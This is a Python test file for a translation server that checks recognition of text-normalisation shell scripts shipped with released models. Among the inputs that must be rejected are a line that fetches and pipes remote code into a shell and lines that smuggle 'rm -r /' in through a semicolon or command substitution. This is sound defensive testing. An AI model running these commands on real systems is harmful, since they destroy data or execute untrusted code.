import pytest

from tarjama_server.model_store.errors import NormalizationUnknown, TargetPrefixRequired
from tarjama_server.model_store.normalization import recognize_profile
from tests.server.model_store.opus_release import SPM_ONLY_SCRIPT, moses_script, opus_script

UNICODE_AND_CONTROL = ("replace-unicode-punctuation.perl", "remove-non-printing-char.perl")
DELETE = r"perl -CIOE -pe 's/[\x{2060}\x{200B}\x{feff}]//g' |" + "\\\n"


@pytest.mark.parametrize(
    ("script", "profile"),
    [
        (SPM_ONLY_SCRIPT, "sentencepiece"),
        ("spm_encode --model source.spm", "sentencepiece"),
        (opus_script(), "opus-spm"),
        (opus_script("spm_encode --model source.spm"), "opus-spm"),
        (opus_script().replace(DELETE, ""), "opus-spm"),
        (opus_script().replace(r"(?!\n)", ""), "opus-spm"),
        (opus_script().replace("perl -C -pe  ", "perl -C -pe "), "opus-spm"),
        (opus_script().replace("\n", "\n# another comment\n\n"), "opus-spm"),
        (moses_script(*UNICODE_AND_CONTROL), "opus-spm"),
        (
            moses_script(*UNICODE_AND_CONTROL).replace("tokenizer\n", "tokenizer\ncat $1 |\n"),
            "opus-spm",
        ),
        (
            moses_script(*UNICODE_AND_CONTROL, "normalize-punctuation.perl -l $1"),
            "opus-spm-moses",
        ),
        (
            moses_script(
                *UNICODE_AND_CONTROL,
                "normalize-punctuation.perl -l $1",
                squeeze="s/  */ /g;s/^ *//g;s/ *$$//g",
            ),
            "opus-spm-moses",
        ),
    ],
)
def test_a_script_is_known_by_what_it_does(script: str, profile: str) -> None:
    # A comment between continued lines ends them in the shell too, so take those out of the test.
    joined = script.replace("\\\n# another comment\n\n", "\\\n")
    assert recognize_profile(joined) == profile


@pytest.mark.parametrize(
    ("script", "line"),
    [
        (opus_script().replace("s/，/,/g", "s/，/;/g"), "s/，/;/g"),
        (opus_script().replace("s/，/,/g", "s/ك/ک/g"), "s/ك/ک/g"),
        (opus_script().replace("。 *", "。"), "s/。/. /g"),
        (opus_script().replace("s/，/,/g", "y/a/b/"), "y/a/b/"),
        (opus_script().replace(r"\p{C}", r"\p{L}"), r"\p{L}"),
        (opus_script("tr A-Z a-z"), "tr A-Z a-z"),
        (opus_script("spm_encode --model x --output_format=id"), "--output_format=id"),
        ("curl http://example.org | sh", "curl http://example.org"),
        ("spm_encode --model source.spm; rm -r /", "rm -r /"),
        ("spm_encode --model $(rm -r /)", "rm -r /"),
        ("X=`ls` rm y", "X=`ls` rm y"),
        ("echo 'unfinished", "echo 'unfinished"),
        (moses_script(*UNICODE_AND_CONTROL, "tokenizer.perl -a -l $1"), "tokenizer.perl -a -l $1"),
    ],
)
def test_an_unknown_line_is_named(script: str, line: str) -> None:
    with pytest.raises(NormalizationUnknown) as raised:
        recognize_profile(script)
    assert line in str(raised.value)
    assert "preprocess.sh" in str(raised.value)
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize(
    ("script", "steps"),
    [
        ("", "does nothing"),
        ("# nothing\n", "does nothing"),
        (
            moses_script("remove-non-printing-char.perl"),
            "makes control characters spaces, squeezes",
        ),
        (moses_script(*reversed(UNICODE_AND_CONTROL)), "control characters spaces, maps"),
        (SPM_ONLY_SCRIPT + SPM_ONLY_SCRIPT, "runs SentencePiece, runs SentencePiece"),
    ],
)
def test_known_steps_in_an_unknown_order_are_listed(script: str, steps: str) -> None:
    with pytest.raises(NormalizationUnknown, match=steps):
        recognize_profile(script)


def test_a_punctuation_table_that_lacks_a_line_is_unknown() -> None:
    with pytest.raises(NormalizationUnknown):
        recognize_profile(opus_script().replace("-e 's/，/,/g' \\\n", ""))


def test_a_script_that_adds_a_target_prefix_is_refused() -> None:
    script = opus_script('${SPMENCODE} --model $3 |\nsed "s/^/>>$2<< /"')
    with pytest.raises(TargetPrefixRequired, match=">>lang<<"):
        recognize_profile(script)
